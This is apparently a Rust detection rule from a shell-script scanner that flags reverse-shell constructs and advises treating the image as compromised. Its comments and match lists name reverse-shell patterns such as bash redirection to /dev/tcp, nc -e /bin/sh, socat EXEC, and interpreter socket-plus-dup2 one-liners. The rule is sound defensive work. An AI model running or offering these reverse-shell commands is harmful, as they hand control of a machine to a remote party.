//! reverse-shell: a shell is handed to whoever is at the other end of a connection.

use super::{Shell, program};
use crate::detect::Sink;
use crate::model::Span;
use crate::parse::shell::{Command, Output, SHELLS};

pub fn check(rule: &str, shell: &Shell<'_>, out: &mut Sink<'_>) {
    for command in &shell.script.commands {
        let found = interactive(command, shell)
            .or_else(|| piped(command, shell))
            .or_else(|| executed(command))
            .or_else(|| scripted(command));
        if let Some(span) = found {
            out.report(rule, span, "a shell is handed to the other end of a connection")
                .text("runs what the other end sends")
                .help("remove it; if nobody here wrote it, treat the image and what built it as compromised");
        }
    }
}

const CONNECTIONS: &[&str] = &["nc", "ncat", "netcat", "telnet", "socat"];

/// `bash -i >& /dev/tcp/host/port`.
fn interactive(command: &Command, shell: &Shell<'_>) -> Option<Span> {
    let is_interactive = command.is_shell()
        && command
            .args()
            .iter()
            .any(|w| w.text.starts_with('-') && w.text.contains('i'));
    let script = shell.script;
    let written = match script.output(command) {
        Output::File { redirect } => script.redirects.get(redirect),
        _ => None,
    };
    let target = written
        .into_iter()
        .chain(script.inputs(command).map(|(_, redirect)| redirect))
        .find(|redirect| redirect.target.text.starts_with("/dev/tcp/"))?;
    is_interactive.then_some(target.target.span)
}

/// `sh -i | nc host port`: what the shell writes goes to a connection.
fn piped(command: &Command, shell: &Shell<'_>) -> Option<Span> {
    if !command.reads_script() {
        return None;
    }
    let Output::Pipe { pipeline, index } = shell.script.output(command) else {
        return None;
    };
    let mut after = shell.script.element(pipeline, index).iter();
    after
        .any(|next| CONNECTIONS.contains(&next.name.as_str()) || next.has_arg("s_client"))
        .then(|| command.program_span())
}

/// `nc -e /bin/sh`, `socat TCP:... EXEC:/bin/sh`.
fn executed(command: &Command) -> Option<Span> {
    let words = command.args();
    let is_shell = |text: &str| SHELLS.contains(&text.rsplit('/').next().unwrap_or(text));
    match command.name.as_str() {
        "nc" | "ncat" | "netcat" => {
            let at = words.iter().position(|word| {
                let text = word.text.as_str();
                matches!(text, "--exec" | "--sh-exec")
                    || (text.starts_with('-')
                        && !text.starts_with("--")
                        && text.ends_with(['e', 'c']))
            })?;
            let program = words.get(at + 1)?;
            let first = program.text.split_whitespace().next().unwrap_or_default();
            is_shell(first).then_some(program.span)
        }
        "socat" => {
            let runs = words.iter().find(|word| {
                let text = word.text.to_ascii_lowercase();
                let program = text.strip_prefix("exec:").or(text.strip_prefix("system:"));
                let program = program.and_then(|text| text.split([',', ' ']).next());
                program.is_some_and(|text| is_shell(text.trim_matches(['"', '\''])))
            })?;
            let connects = words
                .iter()
                .any(|w| w.text.to_ascii_lowercase().starts_with("tcp"));
            connects.then_some(runs.span)
        }
        _ => None,
    }
}

/// The same, written for another interpreter on the command line.
fn scripted(command: &Command) -> Option<Span> {
    if !program::is_interpreter(command) || command.is_shell() {
        return None;
    }
    let word = command.args().iter().find(|word| {
        let text = word.text.as_str();
        let connects = ["socket", "fsockopen", "TCPSocket"];
        let hands_over = ["dup2", "pty.spawn", "/bin/sh", "/bin/bash"];
        connects.iter().any(|part| text.contains(part))
            && hands_over.iter().any(|part| text.contains(part))
    })?;
    Some(word.span)
}
